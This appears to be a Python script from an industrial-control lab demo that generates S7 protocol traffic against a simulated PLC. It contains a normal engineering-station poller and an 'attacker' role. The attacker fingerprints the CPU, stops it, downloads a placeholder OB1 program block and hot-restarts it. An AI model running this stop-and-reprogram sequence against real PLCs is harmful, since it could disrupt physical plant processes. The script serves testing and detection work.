"""S7 clients of the demo, with the C snap7 library (python-snap7 2.1): the engineering station and the attacker.

``eng``: connects to plc2 before tick 0 and then, on the time table of ``plant.py``, reads DB1
(24 bytes) every tick, the CPU state (SZL 0x0424) every 5 ticks and the identity (SZL 0x0011
and 0x001C) every 60 ticks, until the end of the attack phase.

``attack``: during the attack phase only: connects to plc2, reads SZL 0x0011 and 0x001C, stops
the CPU, downloads a program block OB1 (Request download, the PLC asks for the block with
Download block, Download ended, then PI ``_INSE``) and restarts the CPU with a hot start.

The C client is used on purpose: the frames of the 3.3 pure-Python client are partly malformed
for Wireshark 4.0.  Prints one line per step ("OK"/"FAIL"); exits 1 if a step's outcome differs
from the one expected.  Must not write any file.

usage: s7_client.py {eng,attack} EPOCH
"""

from __future__ import annotations

import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import snap7

sys.path.insert(0, str(Path(__file__).resolve().parent))
import plant
from plant import at, sleep_until, ticks

FAILURES: list[str] = []


def step(name: str, call: Callable[[], Any], expect_ok: bool = True) -> Any:
    try:
        result = call()
    except Exception as exc:  # a failed step is reported and counted, the schedule goes on
        print(f"FAIL {name}: {exc}", flush=True)
        if expect_ok:
            FAILURES.append(name)
        return None
    print(f"OK   {name}: {str(result)[:100]}", flush=True)
    if not expect_ok:
        FAILURES.append(name)
    return result


def connect() -> snap7.client.Client:
    client = snap7.client.Client()
    client.connect(plant.PLC2.ip, plant.S7_RACK, plant.S7_SLOT, plant.S7_PORT)
    return client


def order_code(client: snap7.client.Client) -> str:
    szl = client.read_szl(0x0011, 0)
    return bytes(szl.Data[2:22]).decode("ascii", "replace")


def cpu_info(client: snap7.client.Client) -> str:
    info = client.get_cpu_info()
    return f"{info.ASName.decode()} / {info.ModuleTypeName.decode()} / {info.SerialNumber.decode()}"


def engineering_station(epoch: float) -> None:
    sleep_until(epoch - plant.LEAD_IN + 1.5)
    client = connect()
    total = plant.NORMAL_TICKS + plant.ATTACK_TICKS
    schedule: list[tuple[float, str, Callable[[], Any]]] = []
    for tick in ticks(total):
        schedule.append(
            (
                at(epoch, tick, "s7_read"),
                f"t{tick} db_read",
                lambda: client.db_read(plant.S7_DB, 0, plant.S7_DB_BYTES),
            )
        )
    for tick in ticks(total, plant.S7_STATE_EVERY):
        schedule.append((at(epoch, tick, "s7_state"), f"t{tick} cpu state", client.get_cpu_state))
    for tick in ticks(total, plant.S7_IDENTITY_EVERY, plant.S7_IDENTITY_FIRST):
        schedule.append((at(epoch, tick, "s7_identity"), f"t{tick} order code", lambda: order_code(client)))
        schedule.append(
            (at(epoch, tick, "s7_identity") + 0.01, f"t{tick} cpu info", lambda: cpu_info(client))
        )
    for moment, name, call in sorted(schedule, key=lambda item: item[0]):
        sleep_until(moment)
        step(name, call)
    client.disconnect()


def ob1_block(number: int) -> bytearray:
    """A small program block OB1 in the MC7 load-memory layout the C client uploads and downloads.

    36-byte header (0x7070 marker, language 1 = STL, block type 0x08 = OB, number, total length,
    code length at 34), the code, then a 36-byte trailer.  The code bytes are not meant to run:
    the server stores the block, it does not execute it.
    """
    code = bytes((0x70, 0x0B, 0x00, 0x01) * 4) + b"\x65\x00"  # 18 bytes, fixed
    block = bytearray(36 + len(code) + 36)
    block[0:2] = b"\x70\x70"
    block[2] = 0x01  # block format version
    block[4] = 0x01  # language STL
    block[5] = 0x08  # OB
    struct.pack_into(">H", block, 6, number)
    struct.pack_into(">I", block, 8, len(block))
    struct.pack_into(">H", block, 34, len(code))
    block[36 : 36 + len(code)] = code
    return block


def attacker(epoch: float) -> None:
    base = plant.NORMAL_TICKS
    times = {
        name: at(epoch, base + tick, "attack") for tick, tool, name, _ in plant.ATTACK_STEPS if tool == "s7"
    }
    sleep_until(times["szl"] - 0.3)
    client = connect()
    sleep_until(times["szl"])
    step("attack order code", lambda: order_code(client))
    step("attack cpu info", lambda: cpu_info(client))
    sleep_until(times["stop"])
    step("attack plc stop", client.plc_stop)
    step("attack cpu state", client.get_cpu_state)
    sleep_until(times["download"])
    step(
        "attack download OB1",
        lambda: client.download(ob1_block(plant.ATTACK_OB_NUMBER), plant.ATTACK_OB_NUMBER),
    )
    sleep_until(times["hot_start"])
    step("attack hot start", client.plc_hot_start)
    step("attack cpu state", client.get_cpu_state)
    client.disconnect()


def main() -> None:
    role, epoch = sys.argv[1], float(sys.argv[2])
    print("python-snap7", getattr(snap7, "__version__", "?"), "role", role, flush=True)
    {"eng": engineering_station, "attack": attacker}[role](epoch)
    if FAILURES:
        print("!! unexpected outcomes:", ", ".join(FAILURES), flush=True)
        sys.exit(1)
    print("DONE", flush=True)


if __name__ == "__main__":
    main()
